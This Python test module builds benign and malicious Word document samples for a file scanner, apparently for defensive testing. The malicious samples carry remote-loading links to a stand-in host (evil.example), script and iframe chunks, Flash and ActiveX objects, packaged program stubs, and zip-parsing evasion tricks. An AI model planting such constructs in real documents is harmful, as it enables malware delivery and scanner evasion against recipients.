"""What Word documents carry within themselves: charts, chunks of other documents, objects."""

import struct
import zipfile
from collections.abc import Iterator
from io import BytesIO
from uuid import UUID

from tests.storage.compound import compound
from tests.storage.corpus.docx import (
    OFFICE,
    PACKAGE,
    TYPES,
    Parts,
    a_workbook,
    parts,
    related,
    zipped,
)
from tests.storage.corpus.sample import DOCX, Sample, good
from tests.world import a_docx

CHART = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
#: Flash, as a compound file names it.
FLASH = UUID("D27CDB6E-AE6D-11CF-96B8-444553540000").bytes_le
REMOTE = "https://evil.example/x.html!"


def with_type(content: Parts, part: str, kind: str) -> Parts:
    """Name a part's type, by its own name or ("Default docx") by its ending."""
    word, _, ending = part.rpartition(" ")
    name = f'Extension="{ending}"' if word else f'PartName="/{part}"'
    entry = f'<{word or "Override"} {name} ContentType="{kind}"/></Types>'
    return content | {TYPES: content[TYPES].replace(b"</Types>", entry.encode())}


def chart(target: str) -> bytes:
    """A chart that was pasted from a workbook, and names it."""
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{OFFICE}/oleObject" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    )
    content = with_type(related("chart", "charts/chart1.xml", ""), "word/charts/chart1.xml", CHART)
    return zipped(
        content
        | {
            "word/charts/chart1.xml": b"<c:chartSpace xmlns:c='c'/>",
            "word/charts/_rels/chart1.xml.rels": relations.encode(),
        }
    )


def chunk(name: str, kind: str, content: bytes) -> bytes:
    """A document with another in it, which Word makes one of when it opens them."""
    ending = name.rpartition(".")[2]
    own = with_type(related("aFChunk", name, ""), f"Default {ending}", kind)
    return zipped(own | {f"word/{name}": content})


def page(inside: str) -> bytes:
    return chunk("chunk.html", "text/html", f"<html><body>{inside}</body></html>".encode())


def mail(inside: str) -> bytes:
    head = "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=a\r\n\r\n--a\r\n"
    html = f"Content-Type: text/html\r\n\r\n<html><body>{inside}</body></html>\r\n--a--"
    return chunk("chunk.mht", "message/rfc822", (head + html).encode())


def holding(content: bytes) -> bytes:
    return zipped(parts() | {"word/embeddings/oleObject1.bin": content})


def packed(name: str, content: bytes) -> bytes:
    """A file as the Windows packager puts it into a document."""
    names = name.encode() + b"\0C:\\" + name.encode() + b"\0\0\0\3\0"
    size = struct.pack("<I", len(content))
    return compound({"\x01Ole10Native": b"\x40\0\0\0\2\0" + names + size + content})


def renamed() -> bytes:
    """A document of which some programs read another part as its text: names beside the names."""
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in (parts() | {"word/other.xml": b"<a/>"}).items():
            entry = zipfile.ZipInfo(name)
            if name == "word/other.xml":
                other = b"\1\0\0\0\0word/document.xml"
                entry.extra = struct.pack("<HH", 0x7075, len(other)) + other
            archive.writestr(entry, part)
    return file.getvalue()


def endless() -> bytes:
    """A document that ends sooner for those who read from the front."""
    inner = zipped({"word/settings.xml": b"<other/>"}, zipfile.ZIP_STORED)
    content = bytearray(zipped(parts() | {"word/a.dat": b"--" + inner}, zipfile.ZIP_STORED))
    for at in (content.index(b"word/a.dat") - 30 + 6, content.rindex(b"word/a.dat") - 46 + 8):
        content[at] |= 8
    return bytes(content)


def good_ones() -> Iterator[tuple[str, bytes]]:
    yield "a chart of a workbook nearby", chart(r"file:///C:\Users\Jane%20Doe\Umsatz.xlsx")
    yield "a chart of a workbook on a Mac", chart("Jane's%20Mac:Users:jane:Documents:a.xlsx")
    yield "a chart of a workbook never saved", chart("Book1")
    yield "a document within", chunk("chunk.docx", f"{DOCX}.main+xml", a_docx())
    yield "a page within", page("<h1>Lebenslauf</h1><p>Objektleitung, <b>Basis</b></p>")
    yield "a mail within", mail("<p>Lebenslauf</p>")
    yield "a text within", chunk("chunk.rtf", "application/rtf", rb"{\rtf1\ansi Lebenslauf}")
    yield "an empty part", zipped(parts() | {"customXml/item1.xml": b""})
    left = b"======= ./word/fontTable.xml =======\n<?xml version='1.0'?><a/>"
    yield "a part that nobody reads", zipped(parts() | {"8966.xml": left})
    yield (
        "a comment that nobody reads",
        zipped(parts() | {"modifs.xml": b"\n<!-- Sample Zip -->\n"}),
    )
    for ending in ("xlsm", "xlsb"):
        kind = "application/vnd.ms-excel.sheet.macroEnabled.12"
        sheet = {f"word/embeddings/Microsoft_Excel_Worksheet1.{ending}": a_workbook()}
        own = with_type(parts(), f"Default {ending}", kind)
        yield f"a sheet that could hold macros, {ending}", zipped(own | sheet)
    yield "a packed archive", holding(packed("Zeugnisse.zip", zipped({"Zeugnis.pdf": b"%PDF-"})))


def bad_ones() -> Iterator[tuple[str, str, bytes]]:
    old = zipped({"xl/macrosheets/sheet1.bin": b"x"})
    yield "docx-macro", "a sheet of macros", zipped(parts() | {"word/embeddings/a.xlsb": old})
    yield (
        "docx-macro",
        "a packed document of macros",
        holding(packed("a.zip", zipped({"a.docm": zipped({"word/vbaProject.bin": b"x"})}))),
    )
    yield "docx-macro", "a sheet of what else", zipped(parts() | {"word/embeddings/a.xlsm": b"x"})
    yield "docx-external", "a chart of a workbook on a share", chart(r"file:///\\evil\a\b.xlsx")
    yield "docx-external", "a chart of a workbook elsewhere", chart("https://evil.example/b.xlsx")
    loading = zipped(related("oleObject", REMOTE))
    yield "docx-external", "a document within that loads", chunk("c.docx", DOCX, loading)
    yield "docx-external", "an object that loads", holding(loading)
    yield "docx-active", "a page within that runs", page("<script>1</script>")
    yield "docx-active", "a mail within that loads", mail('<iframe src=3D"https://evil.example/">')
    yield "docx-active", "a film for Flash", holding(compound({"Contents": b"x"}, clsid=FLASH))
    yield "docx-active", "a control as an object", holding(compound({"\x03OCXNAME": b"a\0"}))
    yield (
        "docx-program",
        "an archive with a program",
        holding(packed("a.zip", zipped({"a.js": b""}))),
    )
    inner = zipped(parts() | {"word/embeddings/a.bin": PACKAGE})
    yield "docx-program", "a program in a document within", holding(inner)
    fetched = rb"{\rtf1{\object\objautlink x}}"
    yield "docx-program", "a text within that loads", chunk("c.rtf", "application/rtf", fetched)
    program = b"MZ\x90\x00" + bytes(60)
    yield "docx-broken", "a program that nobody reads", zipped(parts() | {"8966.xml": program})
    yield (
        "docx-broken",
        "a part that is named, and broken",
        zipped(related("header", "header9.xml", "") | {"word/header9.xml": b"=== <a>"}),
    )
    yield "docx-broken", "another name for a part", renamed()
    yield "docx-broken", "an end that is not stated", endless()


def samples() -> Iterator[Sample]:
    for why, content in good_ones():
        yield good(why, "Lebenslauf.docx", content, DOCX)
    for code, why, content in bad_ones():
        yield Sample(why, "Lebenslauf.docx", content, code)
